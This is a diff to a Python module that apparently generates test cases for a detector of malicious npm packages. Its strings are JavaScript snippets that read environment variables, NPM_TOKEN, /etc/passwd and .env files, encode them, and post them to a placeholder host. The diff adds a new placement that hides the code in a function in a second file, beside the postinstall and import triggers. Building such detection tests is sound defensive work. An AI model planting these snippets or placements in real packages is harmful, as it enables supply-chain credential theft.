@@ -3,10 +3,10 @@
 from tests.combinations.parts import ADDRESS, HOST, Plan
 from tests.evasions.case import Case, package
 
-_HEAD = (
+HEAD = (
     "const fs = require('fs'), path = require('path'), cp = require('child_process'), os = require('os');\n"
 )
-_TAKEN = {
+TAKEN = {
     "environment": "const D = process.env;",
     "environment-as-text": "const D = JSON.stringify(process.env);",
     "token": "const D = process.env.NPM_TOKEN;",
@@ -23,7 +23,7 @@ _TAKEN = {
     "accounts": "const D = fs.readFileSync('/etc/passwd', 'utf8');",
     "dotenv": "const D = fs.readFileSync(path.join(process.cwd(), '.env'), 'utf8');",
 }
-_MADE = {
+MADE = {
     "plain": "const S = typeof D === 'string' ? D : JSON.stringify(D);",
     "base64": "const S = Buffer.from(typeof D === 'string' ? D : JSON.stringify(D)).toString('base64');",
     "json": "const S = JSON.stringify({ data: D, t: Date.now() });",
@@ -32,7 +32,7 @@ _MADE = {
     "packed": "const S = require('zlib').gzipSync(JSON.stringify(D)).toString('base64');",
     "kept": "const kept = {};\nkept.text = D;\nconst S = JSON.stringify(kept);",
 }
-_SENT = {
+SENT = {
     "request": f"const r = require('https').request({{ hostname: '{HOST}', path: '/in', method: 'POST' }}, () => {{}});\nr.write(S);\nr.end();",
     "query": f"require('https').get('{ADDRESS}?d=' + S);",
     "fetch": f"fetch('{ADDRESS}', {{ method: 'POST', body: S }});",
@@ -55,17 +55,25 @@ _SENT = {
 
 
 def at_place(id_: str, place: str, code: str) -> Case:
-    """A package that runs code at install or when it is imported."""
+    """A package that runs code at install, when it is imported, or in a function of another file that it calls then."""
     if place == "install":
         manifest = package(scripts={"postinstall": "node scripts/setup.js"})
         files = {"package.json": manifest, "index.js": "module.exports = 1;\n", "scripts/setup.js": code}
-    else:
+    elif place == "import":
         files = {"package.json": package(), "index.js": code}
+    else:
+        inside = "".join(f"  {line}\n" for line in code.splitlines())
+        core = f"exports.go = function go() {{\n{inside}}};\n"
+        files = {
+            "package.json": package(),
+            "index.js": "require('./lib/core').go();\n",
+            "lib/core.js": core,
+        }
     return Case(id_, "npm", files)
 
 
 def _make(id_: str, place: str, begin: str, middle: str, end: str) -> Case:
-    return at_place(id_, place, f"{_HEAD}{begin}\n{middle}\n{end}\n")
+    return at_place(id_, place, f"{HEAD}{begin}\n{middle}\n{end}\n")
 
 
-PLAN = Plan("npm-taken", _TAKEN, _MADE, _SENT, ("install", "import"), _make)
+PLAN = Plan("npm-taken", TAKEN, MADE, SENT, ("install", "import", "function"), _make)
